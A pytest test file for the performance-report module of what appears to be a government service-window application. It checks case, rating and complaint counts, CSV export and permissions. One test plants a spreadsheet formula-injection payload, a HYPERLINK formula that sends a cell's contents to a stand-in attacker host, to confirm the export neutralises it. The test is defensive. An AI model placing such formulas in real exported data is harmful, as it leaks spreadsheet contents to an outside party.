"""绩效考核 at the window, from local data: figures checked against hand-computed values.

Period 1-17 October 2025 (National Day 1-8 October off; Saturday 11 October a make-up
working day). Operators: 李明 (clerk) and 王晓燕 (the demo supervisor).
"""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
from zoneinfo import ZoneInfo

import pytest

from windowdesk.domain.case_state import CaseAction
from windowdesk.errors import ValidationError
from windowdesk.services import applicants, auth, cases, complaints, intake, reports, service_quality
from windowdesk.services.authorization import PermissionDenied
from windowdesk.services.catalog import get_item_guide
from windowdesk.services.sync_apply import apply_change
from windowdesk.sync import protocol

from ..conftest import snapshot_of_demo

SHANGHAI = ZoneInfo("Asia/Shanghai")
START, END = dt.date(2025, 10, 1), dt.date(2025, 10, 17)


def at(ctx, when: str):
    moment = dt.datetime.fromisoformat(when).replace(tzinfo=SHANGHAI)
    return dataclasses.replace(ctx, clock=lambda: moment)


def _who(demo):
    return applicants.find_residents(demo.db, demo.ctx, query="2309")[0].ref


def _checks(demo, item, missing=()):
    guide = get_item_guide(demo.db, item_code=item)
    return [intake.MaterialCheck(m.code, "missing" if m.code in missing else "received") for m in guide.materials]


def accept(demo, ctx, item, when):
    return intake.accept_case(
        demo.db,
        at(ctx, when),
        item_code=item,
        applicant=_who(demo),
        checks=_checks(demo, item),
        shipped_calendar=demo.calendar,
    ).id


def approve(demo, case_id, seq, when):
    change = protocol.Change(
        seq,
        protocol.CHANGE_DECISION,
        "case",
        case_id,
        {
            "case_id": case_id,
            "case_number": "x",
            "decision": "approve",
            "department": "X",
            "note": "",
            "status": "approved",
            "at": dt.datetime.fromisoformat(when).replace(tzinfo=SHANGHAI).isoformat(),
        },
    )
    with demo.db.write() as session:
        apply_change(session, change, now=dt.datetime.now(dt.UTC))


def _write_fixed_history(demo):
    auth.create_operator(
        demo.db, demo.ctx, login="li", display_name="李明", role="operator", initial_password="Start2026x"
    )
    clerk = auth.log_in(demo.db, login="li", password="Start2026x").ctx
    boss = demo.ctx
    # 1: 李明, MZ-001 (20 days), 5 working days used: on time.
    one = accept(demo, clerk, "MZ-001", "2025-09-29 09:00")
    approve(demo, one, 1, "2025-10-10 11:00")
    cases.change_status(demo.db, at(clerk, "2025-10-13 10:00"), case_id=one, action=CaseAction.COMPLETE)
    # 2: 王晓燕, LB-006 (3 days), 5 used (28, 29, 30 Sep, 9, 10 Oct): late.
    two = accept(demo, boss, "LB-006", "2025-09-26 09:00")
    approve(demo, two, 2, "2025-10-09 15:00")
    cases.change_status(demo.db, at(boss, "2025-10-10 16:00"), case_id=two, action=CaseAction.COMPLETE)
    # 3: 李明, LB-002 (1 day), open, 7 used by 17 October: overdue.
    accept(demo, clerk, "LB-002", "2025-10-09 10:00")
    # 4: 王晓燕, MZ-001, open, 4 used: fine. 5: accepted after the period.
    accept(demo, boss, "MZ-001", "2025-10-13 09:30")
    accept(demo, boss, "MZ-001", "2025-10-20 09:30")
    intake.notify_missing(
        demo.db,
        at(clerk, "2025-10-09 11:00"),
        item_code="MZ-001",
        applicant=_who(demo),
        checks=_checks(demo, "MZ-001", missing=("M01",)),
    )
    intake.refuse_application(
        demo.db,
        at(boss, "2025-10-17 16:30"),
        item_code="MZ-001",
        applicant=_who(demo),
        reason="不符合条件",
        legal_basis="《城市居民最低生活保障条例》第二条",
    )
    for ctx, level, when in (
        (clerk, 5, "2025-10-09 11:10"),
        (clerk, 2, "2025-10-10 09:00"),
        (boss, 3, "2025-10-17 17:00"),
        (boss, 1, "2025-10-18 09:00"),
    ):
        service_quality.rate_service(demo.db, at(ctx, when), level=level, shipped_calendar=demo.calendar)
    complaint_id, _number = complaints.receive_complaint(
        demo.db,
        at(clerk, "2025-10-10 14:00"),
        complainant_name="周女士",
        facts="态度生硬",
        about=complaints.ComplaintAbout(operator_id=clerk.operator_id),
        owner_id=boss.operator_id,
        shipped_calendar=demo.calendar,
    )
    complaints.reply_to_complaint(demo.db, at(boss, "2025-10-15 10:00"), complaint_id=complaint_id, reply="已致歉")
    return clerk, boss


@pytest.fixture(scope="module")
def _fixed_snapshot(tmp_path_factory, _database_templates):
    return snapshot_of_demo(tmp_path_factory, _database_templates, _write_fixed_history)


@pytest.fixture
def fixed_data(_fixed_snapshot, data_dir):
    """The demo with the fixed history above, written once per module: (demo, clerk, boss) on a copy."""
    with _fixed_snapshot.open_copy(data_dir) as (demo, (clerk, boss)):
        yield demo, clerk, boss


def figures(report, label):
    return next(row.figures for row in report.rows if row.label == label)


def test_by_operator(fixed_data):
    demo, _clerk, _boss = fixed_data
    report = reports.performance_report(
        demo.db, at(demo.ctx, "2025-10-20 09:00"), start=START, end=END, by="operator", shipped_calendar=demo.calendar
    )
    li, wang = figures(report, "李明"), figures(report, "王晓燕")
    assert (li.accepted, li.completed, li.on_time, li.overdue, li.average_handling_days) == (1, 1, 1, 1, 5.0)
    assert (li.notifications, li.refusals, li.rating_count, li.satisfaction_rate) == (1, 0, 2, 0.5)
    assert (li.complaints, li.complaints_resolved, li.complaints_on_time) == (1, 1, 1)
    assert (wang.accepted, wang.completed, wang.on_time, wang.overdue, wang.average_handling_days) == (1, 1, 0, 1, 5.0)
    assert (wang.notifications, wang.refusals, wang.rating_count, wang.satisfaction_rate) == (0, 1, 1, 1.0)
    total = report.total
    assert (total.accepted, total.completed, total.on_time, total.overdue, total.rating_count) == (2, 2, 1, 2, 3)
    assert total.satisfaction_rate == 0.6667 and total.ratings == {1: 0, 2: 1, 3: 1, 4: 0, 5: 1}


def test_by_department_and_center(fixed_data):
    demo, _clerk, _boss = fixed_data
    report = reports.performance_report(
        demo.db, demo.ctx, start=START, end=END, by="department", shipped_calendar=demo.calendar
    )
    civil = figures(report, "市民政局")
    labour = next(row.figures for row in report.rows if row.key == "LBJ")
    assert (civil.accepted, civil.completed, civil.on_time, civil.overdue, civil.notifications, civil.refusals) == (
        1,
        1,
        1,
        0,
        1,
        1,
    )
    assert (labour.accepted, labour.completed, labour.on_time, labour.overdue) == (1, 1, 0, 2)
    unknown = figures(report, "(not specified)")  # ratings without a case, a complaint about a person
    assert (unknown.rating_count, unknown.complaints) == (3, 1)
    center = reports.performance_report(
        demo.db, demo.ctx, start=START, end=END, by="center", shipped_calendar=demo.calendar
    )
    assert [row.label for row in center.rows] == ["市政务服务中心"]


def test_csv_export_and_permissions(fixed_data):
    demo, clerk, boss = fixed_data
    report = reports.performance_report(
        demo.db, boss, start=START, end=END, by="window", shipped_calendar=demo.calendar
    )
    text = reports.report_csv(report)
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:])))
    assert rows[0] == ["Period", "2025-10-01", "2025-10-17"]
    assert rows[1][:10] == [
        "Window",
        "Accepted",
        "Of which by agents",
        "Of which with materials to follow",
        "Of which applied online",
        "Of which under notify-and-commit",
        "Verifications due",
        "Verifications overdue",
        "Commitments found false",
        "Completed",
    ]
    assert rows[-1][:12] == ["Total", "2", "0", "0", "0", "0", "0", "0", "0", "2", "1", "2"]
    with pytest.raises(PermissionDenied):
        reports.performance_report(demo.db, clerk, start=START, end=END, by="window", shipped_calendar=demo.calendar)
    with pytest.raises(ValidationError):
        reports.performance_report(demo.db, boss, start=END, end=START, by="window", shipped_calendar=demo.calendar)


def test_csv_export_gives_a_name_that_starts_a_formula_to_the_spreadsheet_as_text(demo):
    # A name as the hub (or an administrator) may publish it: a spreadsheet would run it.
    formula = '=HYPERLINK("http://attacker.invalid/?"&A3,"李明")'
    auth.create_operator(
        demo.db, demo.ctx, login="li", display_name=formula, role="operator", initial_password="Start2026x"
    )
    clerk = auth.log_in(demo.db, login="li", password="Start2026x").ctx
    accept(demo, clerk, "MZ-001", "2025-10-09 09:00")
    report = reports.performance_report(
        demo.db, demo.ctx, start=START, end=END, by="operator", shipped_calendar=demo.calendar
    )
    rows = list(csv.reader(io.StringIO(reports.report_csv(report)[1:])))
    assert ["'" + formula, "1"] == rows[2][:2]
    assert not [cell for row in rows for cell in row if cell[:1] in "=+-@\t\r" and cell != "-"]
    # The figures stay figures, the dash of "no figure" included.
    assert rows[-1][:3] == ["Total", "1", "0"] and "-" in rows[-1]


def _every_case_of_the_center(demo, ctx, calendar_now):
    """The counting rules fed with every case of the center and its whole timeline, read
    through the ORM: the reference the report's selective reading must agree with."""
    from sqlalchemy import select

    from windowdesk.domain.assessment import CaseFact, Keys
    from windowdesk.domain.time_limits import suspensions_from
    from windowdesk.storage import models as m
    from windowdesk.storage import queries_quality

    facts = []
    with demo.db.read() as session:
        items = queries_quality.item_limits(session)
        for case in session.scalars(select(m.Case).where(m.Case.center_code == ctx.center_code)):
            timeline = [(event.at.astimezone(SHANGHAI).date(), event.to_status) for event in case.events]
            department, promised = items[case.item_code]
            facts.append(
                CaseFact(
                    Keys(case.window_id, case.operator_id, department, ctx.center_code),
                    case.accepted_day,
                    promised,
                    completed_day=next((day for day, status in timeline if status == "completed"), None),
                    withdrawn_day=next((day for day, status in timeline if status == "withdrawn"), None),
                    suspensions=tuple(suspensions_from(timeline)),
                )
            )
    return facts


def _write_varied_history(demo):
    """Forty cases over autumn 2025 with every fate: finished on time and late, before,
    inside and after the periods under test, suspended and resumed, still suspended,
    withdrawn, open — through the real window and hub paths."""
    import random

    chance = random.Random(2025)
    ctx, seq = demo.ctx, 100
    day = dt.date(2025, 8, 4)
    for number in range(40):
        day += dt.timedelta(days=chance.choice((1, 2, 3)))
        if day.weekday() >= 5:
            day += dt.timedelta(days=7 - day.weekday())
        when = lambda offset, hour="10:00": f"{day + dt.timedelta(days=offset)} {hour}"  # noqa: E731, B023 - used within this iteration only
        case = accept(demo, ctx, chance.choice(("MZ-001", "LB-006", "LB-002")), when(0, f"09:{number:02d}"))
        fate = number % 6
        if fate in (1, 2):  # waited for materials, some still do
            cases.change_status(demo.db, at(ctx, when(1)), case_id=case, action=CaseAction.SUSPEND, note="缺材料")
            if fate == 2:
                continue
            cases.change_status(demo.db, at(ctx, when(chance.randint(3, 12))), case_id=case, action=CaseAction.RESUME)
        if fate == 3:
            cases.change_status(
                demo.db,
                at(ctx, when(chance.randint(1, 20))),
                case_id=case,
                action=CaseAction.WITHDRAW,
                note="申请人撤回",
            )
            continue
        if fate in (0, 1, 4):  # decided and completed, sooner or later
            seq += 1
            done = chance.randint(14, 40)
            approve(demo, case, seq, when(done - 1, "11:00"))
            cases.change_status(demo.db, at(ctx, when(done, "16:00")), case_id=case, action=CaseAction.COMPLETE)
    # Just overdue at the end of 14-17 November: one promised day, two working days used
    # (Friday and Monday) over four calendar days.
    accept(demo, ctx, "LB-002", "2025-11-13 15:00")
    return ctx


@pytest.fixture(scope="module")
def _varied_snapshot(tmp_path_factory, _database_templates):
    return snapshot_of_demo(tmp_path_factory, _database_templates, _write_varied_history)


@pytest.fixture
def varied_history(_varied_snapshot, data_dir):
    """The demo with the varied history, written once per module: (demo, ctx) on a copy."""
    with _varied_snapshot.open_copy(data_dir) as (demo, ctx):
        yield demo, ctx


@pytest.mark.parametrize(
    "start,end",
    [
        (dt.date(2025, 9, 1), dt.date(2025, 9, 30)),
        (dt.date(2025, 10, 1), dt.date(2025, 10, 17)),
        (dt.date(2025, 10, 9), dt.date(2025, 10, 9)),
        (dt.date(2025, 8, 1), dt.date(2025, 12, 31)),
        (dt.date(2025, 11, 1), dt.date(2025, 11, 30)),
        (dt.date(2025, 11, 14), dt.date(2025, 11, 17)),
    ],
)
def test_the_report_reads_only_what_counts_and_agrees_with_counting_every_case(varied_history, start, end):
    from windowdesk.domain.assessment import build_report
    from windowdesk.services.working_days import calendar_in_force

    demo, ctx = varied_history
    with demo.db.read() as session:
        calendar = calendar_in_force(session, demo.calendar)
    every = _every_case_of_the_center(demo, ctx, calendar)
    for by in ("window", "operator", "department", "center"):
        report = reports.performance_report(demo.db, ctx, start=start, end=end, by=by, shipped_calendar=demo.calendar)
        reference = build_report(start=start, end=end, by=by, calendar=calendar, cases=every)
        assert report.total.accepted + report.total.completed + report.total.overdue > 0
        case_figures = ("accepted", "completed", "on_time", "late", "open_overdue", "average_handling_days")
        assert {k: report.total.as_dict()[k] for k in case_figures} == {
            k: reference.total.as_dict()[k] for k in case_figures
        }
        assert [
            (row.key, [row.figures.as_dict()[k] for k in case_figures])
            for row in report.rows
            if any(row.figures.as_dict()[k] for k in case_figures)
        ] == [(row.key, [row.figures.as_dict()[k] for k in case_figures]) for row in reference.rows]


def test_what_the_hub_refused_to_take_is_not_counted(fixed_data):
    """As on the hub, whose city-wide report never had it: the two reports agree."""
    demo, _clerk, _boss = fixed_data
    from sqlalchemy import select

    from windowdesk.storage import models as m

    def li():
        report = reports.performance_report(
            demo.db,
            at(demo.ctx, "2025-10-20 09:00"),
            start=START,
            end=END,
            by="operator",
            shipped_calendar=demo.calendar,
        )
        return figures(report, "李明")

    assert (li().accepted, li().overdue) == (1, 1)  # LB-002, open past its one day
    with demo.db.write() as session:
        case_id = session.scalars(select(m.Case.id).where(m.Case.item_code == "LB-002")).one()
        accepted = session.scalars(
            select(m.OutboxEvent).where(m.OutboxEvent.kind == "case.accepted", m.OutboxEvent.entity_id == case_id)
        ).one()
        accepted.state, accepted.last_error = "rejected", "事项 LB-002 不在市级平台发布的任何服务目录中。"
    assert (li().accepted, li().overdue) == (0, 0)

    # So with a one-time notification the hub refused (李明 gave the only one of the period).
    assert li().notifications == 1
    with demo.db.write() as session:
        given = session.scalars(select(m.OutboxEvent).where(m.OutboxEvent.kind == "notification.given")).one()
        given.state, given.last_error = "rejected", "事项不在市级平台发布的服务目录中。"
    assert li().notifications == 0
